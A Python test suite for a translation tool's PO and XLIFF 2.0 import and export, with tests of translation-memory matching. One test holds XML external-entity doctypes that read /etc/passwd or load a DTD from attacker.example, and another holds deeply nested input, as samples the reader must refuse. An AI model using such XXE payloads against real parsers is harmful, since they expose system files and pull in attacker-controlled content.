"""Translators' files: PO and XLIFF 2.0 as policygen writes and reads them, and as real
tools (gettext's msgfmt, Babel, the XLIFF 2.0 schema) read them."""

from __future__ import annotations

import datetime as dt
import difflib
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from babel.messages.pofile import read_po as babel_read_po
from hypothesis import given, settings
from hypothesis import strategies as st

from policygen.translation.catalog import Entry, TranslationFile
from policygen.translation.memory import (
    SIMILAR,
    Match,
    Memory,
    Unit,
    align,
    build_memory,
    recall,
    translation_unit,
    words,
)
from policygen.translation.po import read_po, write_po
from policygen.translation.segments import segment_body
from policygen.translation.xliff import read_xliff, write_xliff

SCHEMAS = Path(__file__).resolve().parent.parent / "schemas"

FILE = TranslationFile(
    policy="privacy",
    revision="2027-01-01",
    language="ja",
    source_language="en",
    source_sha256="ab" * 32,
    sources=("content/privacy/2027-01-01/en.md", "content/privacy/2027-01-01/en.europe.md"),
    entries=(
        Entry("title", "Privacy Policy", "プライバシーポリシー", file="content/privacy/2027-01-01/en.md", line=2, notes=("title",)),
        Entry(
            "#section-4 1",
            'See the <1>"Cookies" Policy</1>{2}\nand {3}.',
            "",
            file="content/privacy/2027-01-01/en.md",
            line=12,
            anchor="section-4",
            markup=(("[", "](policy:cookies)"), ("\\\n", None), ("`a < b & c`", None)),
            notes=("paragraph", "placeholders: <1>…</1> link"),
        ),
        Entry(
            "[europe] #section-1 2",
            "Tab\tand backslash \\ here.",
            "タブ\tとバックスラッシュ \\ 。",
            is_fuzzy=True,
            previous="Tab and backslash \\ there.",
            file="content/privacy/2027-01-01/en.europe.md",
            line=7,
            anchor="section-1",
        ),
    ),
    exported="2026-11-29",
)  # fmt: skip


def test_a_po_file_reads_back_as_it_was_written() -> None:
    read, problems = read_po(write_po(FILE), "ja.po")
    assert problems == [] and read is not None
    assert [(e.key, e.source, e.translation, e.is_fuzzy, e.previous) for e in read.entries] == [
        (e.key, e.source, e.translation, e.is_fuzzy, e.previous) for e in FILE.entries
    ]
    assert (read.policy, read.revision, read.language, read.source_sha256, read.sources) == (
        FILE.policy, FILE.revision, FILE.language, FILE.source_sha256, FILE.sources
    )  # fmt: skip
    line = write_po(FILE).split("\n")[read.header_lines["source_sha256"] - 1]
    assert line.startswith('"X-Policygen-Source-SHA256: ')


def test_the_po_header_says_how_much_memory_filled() -> None:
    text = write_po(FILE)
    assert (
        "# 3 entries: 1 carried over from translation memory, 1 fuzzy (to check), 1 to do." in text
    )
    assert '"X-Policygen-Memory: 1 carried over, 1 fuzzy, 1 to do\\n"' in text
    assert "#: content/privacy/2027-01-01/en.md:12 #section-4\n" in text
    assert (
        '#, fuzzy\n#| msgid "Tab and backslash \\\\ there."\nmsgctxt "[europe] #section-1 2"'
        in text
    )


def test_babel_reads_the_po_file() -> None:
    catalog = babel_read_po(io.BytesIO(write_po(FILE).encode()))
    assert str(catalog.locale) == "ja"
    messages = {(m.context, m.id): m for m in catalog if m.id}
    assert messages[("title", "Privacy Policy")].string == "プライバシーポリシー"
    fuzzy = messages[("[europe] #section-1 2", "Tab\tand backslash \\ here.")]
    assert fuzzy.fuzzy and fuzzy.string == "タブ\tとバックスラッシュ \\ 。"
    assert ("content/privacy/2027-01-01/en.md", 12) in messages[
        ("#section-4 1", 'See the <1>"Cookies" Policy</1>{2}\nand {3}.')
    ].locations


def msgfmt_check(path: Path) -> None:
    """gettext's own check of a PO file (Debian package gettext)."""
    if shutil.which("msgfmt") is None:
        pytest.skip(
            "msgfmt is not installed: install gettext (apt-get install gettext) to check PO files with it"
        )
    run = subprocess.run(
        ["msgfmt", "--check-format", "--check-header", "-o", "/dev/null", str(path)],
        capture_output=True,
        text=True,
    )
    assert run.returncode == 0, run.stderr
    assert "warning" not in run.stderr, run.stderr


def babel_check(path: Path) -> None:
    """Babel's reader takes every entry of a PO file, with its context and fuzzy mark."""
    text = path.read_text(encoding="utf-8")
    catalog = babel_read_po(io.BytesIO(text.encode()))
    assert len(catalog) == text.count("\nmsgctxt ")
    assert sum(message.fuzzy for message in catalog if message.id) == text.count("\n#, fuzzy\n")


def test_msgfmt_accepts_the_po_file(tmp_path: Path) -> None:
    path = tmp_path / "ja.po"
    path.write_text(write_po(FILE), encoding="utf-8")
    babel_check(path)
    msgfmt_check(path)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('msgid ""\nmsgstr ""\n"Language: ja\\n"\n', "ja.po:2: error: the header lacks X-Policygen-Policy, X-Policygen-Revision, X-Policygen-Source-Language, X-Policygen-Source-SHA256, X-Policygen-Sources: this is not a file `policygen translate export` wrote, or its header was edited"),
        ('msgctxt "a"\nmsgid "b"\nmsgstr "c"\n', 'ja.po:1: error: this PO file has no header (msgid ""): translate a file that `policygen translate export` wrote'),
        ('msgid "a\nmsgstr ""\n', "ja.po:1: error: a PO string is written between double quotes"),
        ("hello\n", "ja.po:1: error: this line is not PO: entries are msgctxt, msgid and msgstr lines with quoted text, and comments starting with #"),
        ('msgid "a"\nmsgid_plural "as"\n', "ja.po:2: error: plural forms have no place in a policy text: translate the entry's msgid in its msgstr"),
    ],
)  # fmt: skip
def test_a_po_file_policygen_cannot_read_is_refused_at_its_line(text: str, message: str) -> None:
    _, problems = read_po(text, "ja.po")
    assert message in [str(p) for p in problems]


def test_an_entry_written_twice_is_refused() -> None:
    text = write_po(FILE) + '\nmsgctxt "title"\nmsgid "Privacy Policy"\nmsgstr "x"\n'
    _, problems = read_po(text, "ja.po")
    assert [str(p) for p in problems] == [
        "ja.po:48: error: the entry 'title' is here twice (first on line 28)"
    ]


# XLIFF 2.0.


def xliff_schema() -> object:
    """The XLIFF 2.0 core schema (tests/schemas), with the W3C's xml.xsd it imports."""
    etree = pytest.importorskip("lxml.etree", reason="lxml (a test dependency) validates XLIFF")

    class Local(etree.Resolver):  # type: ignore[misc,name-defined]
        def resolve(self, url: str, public_id: str, context: object) -> object:
            if url.endswith("/xml.xsd"):
                return self.resolve_filename(str(SCHEMAS / "xml.xsd"), context)
            return None

    parser = etree.XMLParser(no_network=True)
    parser.resolvers.add(Local())
    return etree.XMLSchema(etree.parse(str(SCHEMAS / "xliff_core_2.0.xsd"), parser))


def assert_valid_xliff(text: str) -> None:
    etree = pytest.importorskip("lxml.etree")
    schema = xliff_schema()
    document = etree.fromstring(text.encode())
    assert schema.validate(document), schema.error_log  # type: ignore[attr-defined]


def test_the_xliff_file_is_valid_xliff_2() -> None:
    assert_valid_xliff(write_xliff(FILE))


def test_an_xliff_file_reads_back_as_it_was_written() -> None:
    text = write_xliff(FILE)
    assert (
        '<pc id="1" dataRefStart="d1s" dataRefEnd="d1e">&quot;Cookies&quot; Policy</pc>' not in text
    )
    assert (
        '<pc id="1" dataRefStart="d1s" dataRefEnd="d1e">"Cookies" Policy</pc><ph id="2" dataRef="d2"/>'
        in text
    )
    assert '<data id="d3">`a &lt; b &amp; c`</data>' in text
    read, problems = read_xliff(text, "ja.xlf")
    assert problems == [] and read is not None
    assert [
        (e.key, e.source, e.translation, e.is_fuzzy, e.previous, e.file, e.markup)
        for e in read.entries
    ] == [
        (e.key, e.source, e.translation, e.is_fuzzy, e.previous, e.file, e.markup)
        for e in FILE.entries
    ]
    assert (read.policy, read.revision, read.language, read.source_sha256) == (
        "privacy", "2027-01-01", "ja", "ab" * 32
    )  # fmt: skip


def test_crossing_placeholders_of_a_translation_are_kept_in_valid_xliff() -> None:
    entry = Entry(
        "a",
        "<1>x <2>y</2></1>",
        "<1>x <2>y</1></2>",
        file=FILE.sources[0],
        markup=(("*", "*"), ("_", "_")),
    )
    file = TranslationFile("p", "r", "ja", "en", "0" * 64, FILE.sources[:1], (entry,))
    text = write_xliff(file)
    assert_valid_xliff(text)
    read, _ = read_xliff(text, "x.xlf")
    assert read is not None and read.entries[0].translation == "<1>x <2>y</1></2>"


@pytest.mark.parametrize(
    ("segments", "is_fuzzy"),
    [
        (
            '<segment state="final"><source>Privacy Policy</source><target>A</target></segment>',
            False,
        ),
        (
            '<segment state="reviewed"><source>Privacy Policy</source><target>A</target></segment>',
            False,
        ),
        ("<segment><source>Privacy Policy</source><target>A</target></segment>", True),
        ('<segment state="done"><source>Privacy Policy</source><target>A</target></segment>', True),
        # A second segment still initial, or not translated, leaves the unit to check:
        # before, only the first segment's state counted.
        (
            '<segment state="translated"><source>Privacy</source><target>A</target></segment>'
            '<segment state="initial"><source> Policy</source><target> B</target></segment>',
            True,
        ),
        (
            '<segment state="translated"><source>Privacy</source><target>A</target></segment>'
            '<segment state="translated"><source> Policy</source></segment>',
            True,
        ),
    ],
)
def test_an_xliff_translation_is_done_when_every_segment_of_its_unit_is(
    segments: str, is_fuzzy: bool
) -> None:
    text = write_xliff(FILE)
    start = text.index("<segment", text.index('name="title"'))
    end = text.index("</segment>", start) + len("</segment>")
    read, problems = read_xliff(text[:start] + segments + text[end:], "ja.xlf")
    assert problems == [] and read is not None
    title = read.entries[0]
    assert (title.key, title.is_fuzzy) == ("title", is_fuzzy)


def test_an_xliff_file_with_a_document_type_is_refused() -> None:
    text = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a "aaaa">]>\n<xliff/>\n'
    _, problems = read_xliff(text, "ja.xlf")
    assert [str(p) for p in problems] == [
        "ja.xlf:2: error: this XLIFF file declares a document type: policygen reads XLIFF without one"
    ]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    ],
)
def test_an_xliff_file_naming_a_file_or_address_to_read_is_refused(doctype: str) -> None:
    _, problems = read_xliff(f'<?xml version="1.0"?>\n{doctype}\n<xliff>&e;</xliff>\n', "ja.xlf")
    assert [str(p) for p in problems] == [
        "ja.xlf:2: error: this XLIFF file declares a document type: policygen reads XLIFF without one"
    ]


XLIFF_HEAD = (
    '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="fr">\n'
    '<file id="f1" original="en.md"><notes><note id="policy">p</note><note id="revision">r</note>'
    '<note id="source-sha256">s</note><note id="sources">en.md</note></notes>\n'
)


@pytest.mark.parametrize(
    "unit",
    [
        "<group>" * 100_000 + "<unit/>" + "</group>" * 100_000,
        '<unit name="k"><segment><source>x</source><target>'
        + '<pc id="1">' * 100_000
        + "y"
        + "</pc>" * 100_000
        + "</target></segment></unit>",
        '<unit name="k"><notes><note category="previous-source">'
        + "<mrk>" * 100_000
        + "</mrk>" * 100_000
        + "</note></notes></unit>",
    ],
)
def test_an_xliff_file_nested_without_end_is_refused(unit: str) -> None:
    # Before, 100,000 nested groups, placeholders or marks ended in a traceback (RecursionError).
    _, problems = read_xliff(XLIFF_HEAD + unit + "</file></xliff>\n", "ja.xlf")
    assert [str(p) for p in problems] == [
        "ja.xlf:3: error: this XLIFF file nests its elements more than 100 levels deep: policygen reads files nested as it writes them"
    ]


def test_an_xliff_file_nested_as_deep_as_allowed_is_read() -> None:
    unit = '<unit name="k"><segment><source>x</source><target>'
    unit += '<pc id="1">' * 94 + "y" + "</pc>" * 94 + "</target></segment></unit>"
    read, problems = read_xliff(XLIFF_HEAD + unit + "</file></xliff>\n", "ja.xlf")
    assert problems == [] and read is not None
    assert read.entries[0].translation == "<1>" * 94 + "y" + "</1>" * 94


@pytest.mark.parametrize(
    ("inner", "tag"),
    [
        ("<b>not</b>", "b"),
        ('<x:pc xmlns:x="urn:x" id="1">not</x:pc>', "pc"),
        ("<mrk><g>not</g></mrk>", "g"),
    ],
)
def test_an_element_xliff_does_not_allow_in_a_translation_is_refused(inner: str, tag: str) -> None:
    # Its words were left out: "We do not sell" was imported as "We do  sell".
    unit = f'<unit name="k"><segment state="final"><source>x</source>\n<target>We do {inner} sell</target></segment></unit>'
    _, problems = read_xliff(XLIFF_HEAD + unit + "</file></xliff>\n", "ja.xlf")
    assert [str(p) for p in problems] == [
        f"ja.xlf:4: error: the translation of 'k' holds <{tag}>, which XLIFF 2.0 does not allow in a translation and policygen would leave out, its words with it: write them as text"
    ]


def test_xliff_that_is_not_xml_is_refused_at_its_line() -> None:
    _, problems = read_xliff('<?xml version="1.0"?>\n<xliff>\n<file>\n</xliff>\n', "ja.xlf")
    assert [str(p) for p in problems] == [
        "ja.xlf:4: error: this is not well-formed XML: mismatched tag"
    ]


# Translation memory.


def segments(body: str, path: str = "en.md") -> list:  # type: ignore[type-arg]
    found, errors = segment_body(body, 1, [], path, {})
    assert errors == []
    return found


def test_a_translation_of_the_same_shape_is_aligned_segment_by_segment() -> None:
    source = segments("## 1. A\n\nOne.\n\n- Two\n- Three\n")
    target = segments("## 1. あ\n\n一。\n\n- 二\n- 三\n", "ja.md")
    assert [(s.text, t.text) for s, t in align(source, target)] == [
        ("1. A", "1. あ"), ("One.", "一。"), ("Two", "二"), ("Three", "三")
    ]  # fmt: skip


def test_sections_whose_shape_differs_give_their_heading_only() -> None:
    source = segments("## 1. A\n\nOne.\n\nTwo.\n\n## 2. B\n\nThree.\n")
    target = segments("## 1. あ\n\n一と二。\n\n## 2. い\n\n三。\n", "ja.md")
    assert [(s.text, t.text) for s, t in align(source, target)] == [
        ("1. A", "1. あ"), ("2. B", "2. い"), ("Three.", "三。")
    ]  # fmt: skip


def test_memory_gives_exact_translations_ready_and_similar_ones_fuzzy() -> None:
    (source,) = segments("See the [Cookies Policy](policy:cookies) for *details*.\n")
    (target,) = segments("*詳細*は[クッキーポリシー](policy:cookies)をご覧ください。\n", "ja.md")
    unit = translation_unit(source, target, dt.date(2022, 7, 7))
    assert (
        unit is not None and unit.target == "<2>詳細</2>は<1>クッキーポリシー</1>をご覧ください。"
    )
    memory = build_memory([unit])
    exact = recall(memory, source.text, dt.date(2027, 1, 1))
    assert exact is not None and (exact.kind, exact.unit.origin) == ("exact", "ja.md:1")
    similar = recall(
        memory, "See the <1>Cookies Policy</1> for all <2>details</2>.", dt.date(2027, 1, 1)
    )
    assert similar is not None and similar.kind == "fuzzy" and round(similar.similarity, 2) == 0.96
    assert (
        recall(memory, "Something else entirely, <1>a</1> <2>b</2>.", dt.date(2027, 1, 1)) is None
    )
    assert recall(memory, source.text, dt.date(2021, 1, 1)) is None  # only earlier revisions


def test_a_translation_that_dropped_markup_is_only_fuzzy() -> None:
    (source,) = segments("This is *important*.\n")
    (target,) = segments("これは重要です。\n", "ja.md")
    unit = translation_unit(source, target, dt.date(2022, 7, 7))
    assert unit is not None and not unit.is_complete
    match = recall(build_memory([unit]), source.text, dt.date(2027, 1, 1))
    assert match is not None and match.kind == "fuzzy"


def _recall_each_unit(memory: Memory, text: str, until: dt.date) -> Match | None:
    """Fuzzy recall as plainly as it can be written: every unit in effect compared."""
    best: Match | None = None
    for unit in memory.units:
        if unit.effective > until:
            continue
        matcher = difflib.SequenceMatcher(None, words(unit.source), words(text), autojunk=False)
        similarity = matcher.ratio()
        if similarity >= SIMILAR and (best is None or similarity > best.similarity):
            best = Match("fuzzy", unit, similarity)
    return best


SIMILAR_TEXTS = st.sampled_from(
    [
        "We collect personal data.",
        "We use personal data.",
        "We keep personal data.",
        "We collect <1>personal</1> data.",
        "We collect personal data and cookies.",
        "We collect data.",
        "Cookies.",
    ]
)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(
            SIMILAR_TEXTS, st.integers(2020, 2027), st.sampled_from(["ja.md", "ja.europe.md"])
        ),
        max_size=12,
    ),
    SIMILAR_TEXTS,
    st.integers(2020, 2027),
)
def test_memory_gives_the_most_similar_newest_translation(
    sources: list[tuple[str, int, str]], text: str, year: int
) -> None:
    units = [
        Unit(source, f"訳 {index}", f"{path}:{index}", path, dt.date(effective, 1, 1), True)
        for index, (source, effective, path) in enumerate(sources)
    ]
    memory = build_memory(units)
    until = dt.date(year, 6, 1)
    if any(u.source == text and u.effective <= until for u in units):
        return  # an exact match, not what this test is about
    assert recall(memory, text, until) == _recall_each_unit(memory, text, until)
